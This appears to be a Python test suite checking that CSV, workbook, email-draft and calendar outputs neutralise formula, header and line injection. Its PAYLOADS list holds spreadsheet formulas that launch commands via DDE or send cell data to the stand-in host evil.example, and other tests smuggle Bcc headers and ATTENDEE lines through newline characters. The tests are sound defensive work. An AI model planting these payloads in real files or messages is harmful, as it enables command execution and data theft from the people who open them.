"""What a mail says stays a value in all that goes out: no header, no formula, no second line.

Sources: https://owasp.org/www-community/attacks/CSV_Injection,
https://owasp.org/www-project-web-security-testing-guide/ (SMTP and header injection),
https://www.rfc-editor.org/rfc/rfc5545 section 3.1 (lines of a calendar),
https://www.unicode.org/reports/tr14/ (what counts as a line end).
"""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from connectors.outlet_files.calendar import IcsCalendar
from connectors.outlet_files.drafts import EmlDrafts
from connectors.outlet_files.rows import CsvRows, _defused
from connectors.workbook.appending import value_of
from flows.errors import OperatorError
from tests.contract.outlet import output
from tests.depth import times

BREAKS = ["\r\n", "\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
UNSEEN = ["", " ", "\t", "\xa0", "\x00", "\x01", "\x7f", "\xad", "\u200b", "\u2060", "\ufeff"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62"]
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    "x\n=1+1",
]  # fmt: skip
FORMULA = re.compile(rf"[{''.join(map(re.escape, SIGNS))}]")


def _cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _works_out(cell: str) -> bool:
    """Whether a spreadsheet of some country would take a part of the cell for a formula."""
    parts = re.split(r"[;\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", cell)
    shown = (part.strip("".join(UNSEEN)) for part in parts)
    return any(FORMULA.match(part) for part in shown)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_published_formulas_are_text_in_a_table(tmp_path: Path, payload: str) -> None:
    body = {"table": "leads", "columns": ["subject"], "cells": {"subject": payload}}
    path = await CsvRows(tmp_path).deliver(output("row.append", 1, body))
    assert not any(map(_works_out, _cells(Path(path))))


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("unseen", UNSEEN)
def test_no_sign_begins_a_cell_behind_what_nobody_sees(sign: str, unseen: str) -> None:
    assert not _works_out(_defused(f"{unseen}{sign}1+1"))
    assert not _works_out(_defused(f"x;{unseen}{sign}1+1"))


ANY = st.text(alphabet=st.sampled_from([*SIGNS, *"\t;x1\"'\r\n", "\u200b", "\u2028", "\x01"]))


@settings(max_examples=times(100), deadline=None)
@given(ANY)
def test_any_cell_is_a_number_or_text(cell: str) -> None:
    made = _defused(cell)
    assert not _works_out(made) or re.fullmatch(r"[+-]?\d+([.,]\d+)*", made)
    assert made.replace("'", "") == cell.replace("'", "").replace("\x00", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_published_formulas_are_text_in_a_workbook(payload: str) -> None:
    """Text goes in as text there; only a plain number becomes one."""
    assert value_of(payload) == payload


@pytest.mark.parametrize("field", ["subject", "to", "from"])
@pytest.mark.parametrize("line_end", BREAKS)
async def test_no_field_of_a_mail_brings_in_a_header(
    tmp_path: Path, field: str, line_end: str
) -> None:
    evil = {"to": "ada@customer.example", "subject": "Leak", "text": "Hello", "from": ""}
    plain = evil[field] or "office@hudson.example"
    evil[field] = f"{plain}{line_end}Bcc: eve@evil.example{line_end}{line_end}<p>"
    path = tmp_path / f"{output('reply.draft', 1, {}).id}.eml"
    outlet, told = EmlDrafts(tmp_path, address="office@hudson.example"), ""
    try:
        await outlet.deliver(output("reply.draft", 1, evil))
    except OperatorError as error:  # an address that is none
        told = str(error)
    if told:
        assert "eve" not in told
        assert not path.exists()
        return
    mail = message_from_bytes(path.read_bytes(), policy=default)
    assert mail["Bcc"] is None
    assert mail.get_content().split() == ["Hello"]
    assert {name.lower() for name in mail} <= {
        *("from", "to", "date", "message-id", "subject", "x-unsent", "mime-version"),
        *("content-type", "content-transfer-encoding"),
    }


@pytest.mark.parametrize("field", ["title", "location", "notes"])
@pytest.mark.parametrize("line_end", BREAKS)
async def test_no_field_of_an_event_brings_in_a_line(
    tmp_path: Path, field: str, line_end: str
) -> None:
    evil = f"Visit{line_end}ATTENDEE:mailto:eve@evil.example{line_end}BEGIN:VALARM"
    body = {"title": "T", "start": "2026-03-14", "end": "2026-03-15", "all_day": True}
    path = await IcsCalendar(tmp_path).deliver(output("event.add", 1, {**body, field: evil}))
    written = Path(path).read_bytes().decode()
    lines = written.replace("\r\n ", "").splitlines()
    assert not [line for line in lines if line.startswith(("ATTENDEE", "BEGIN:VALARM"))]
    [event] = Calendar.from_ical(written).events
    assert "ATTENDEE" not in event
    assert not event.subcomponents


CONTROLS = st.text(alphabet=st.characters(max_codepoint=0x2100), max_size=60)


@settings(
    max_examples=times(30),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(CONTROLS, CONTROLS)
async def test_any_event_is_one_event(tmp_path: Path, notes: str, location: str) -> None:
    body = {"title": notes, "start": "2026-03-14", "end": "2026-03-15", "all_day": True}
    event = output("event.add", 1, {**body, "notes": notes, "location": location})
    place = tmp_path / f"{event.id}.ics"
    place.unlink(missing_ok=True)
    await IcsCalendar(tmp_path).deliver(event)
    written = place.read_bytes().decode()
    assert "".join(written.splitlines()) == written.replace("\r\n", "")
    assert not re.search(r"[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]", written)
    assert len(Calendar.from_ical(written).events) == 1
